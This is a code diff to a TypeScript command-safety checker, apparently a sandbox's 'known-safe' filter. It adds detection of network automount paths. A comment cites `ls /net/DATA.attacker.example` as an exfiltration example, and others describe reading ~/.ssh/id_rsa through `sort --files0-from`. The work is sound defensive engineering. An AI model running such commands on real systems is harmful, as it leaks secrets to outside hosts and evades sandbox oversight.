@@ -17,7 +17,7 @@ import { checkSed } from './programs/sed.ts';
 import { SORT_TABLE, checkSort } from './programs/sort.ts';
 import { UNIQ_TABLE, checkUniq } from './programs/uniq.ts';
 import { type ProgramLocator, isTrustedProgramPath, programName } from './programs/programPath.ts';
-import { broadSearchRoot, mayHoldSecret, secretIn, secretInGitWord, underDirectory } from './programs/secretPaths.ts';
+import { broadSearchRoot, mayHoldSecret, networkMountIn, secretIn, secretInGitWord, underDirectory } from './programs/secretPaths.ts';
 import { posix } from 'node:path';
 import { MAX_SCRIPT_BYTES, type Expansion, parseWordOnlyScriptDetailed, shellScriptOf } from './shellParse.ts';
 
@@ -134,6 +134,9 @@ function readsSecret(name: string, args: readonly string[], directory: string | 
     if (objectPath !== null) return notSafe(word, `\`${word}\` names a secret (${objectPath}) in the repository; a known-safe read runs unsandboxed under danger-full-access`);
     const secret = secretIn(underDirectory(directory, word));
     if (secret !== null) return notSafe(word, `\`${word}\` names a secret (${secret}); a known-safe read runs unsandboxed under danger-full-access`);
+    // `ls /net/DATA.attacker.example`: the automounter reaches the host, outside any sandbox
+    const remote = networkMountIn(underDirectory(directory, word)) ?? (value === null ? null : networkMountIn(underDirectory(directory, value)));
+    if (remote !== null) return notSafe(word, `\`${word}\` is under \`${remote}\`, where opening a path makes the system mount another host (network)`);
     // blocks `sort --files0-from=list`: list may name ~/.ssh/id_rsa (wc prints only counts)
     if (word.startsWith('--files0-from') && name !== 'wc') return notSafe(word, `\`${word}\` reads the names of the files to read from a file warden cannot see`);
   }
@@ -250,7 +253,7 @@ export function checkKnownSafe(argv: readonly string[], options: SafeCheckOption
   const shell = shellScriptOf(command);
   const start = options.cwd !== undefined && options.cwd.startsWith('/') ? options.cwd : null;
   // `ls` or `head -5 config` run in ~/.ssh read it with no word naming it
-  const startSecret = start === null ? null : secretIn(start);
+  const startSecret = start === null ? null : (secretIn(start) ?? networkMountIn(start));
   if (startSecret !== null) return notSafe(start!, `the command runs in \`${start}\`, which names a secret (${startSecret}); a known-safe read runs unsandboxed under danger-full-access`);
   if (shell === null) {
     const verdict = checkProgram(command, 'none', options);
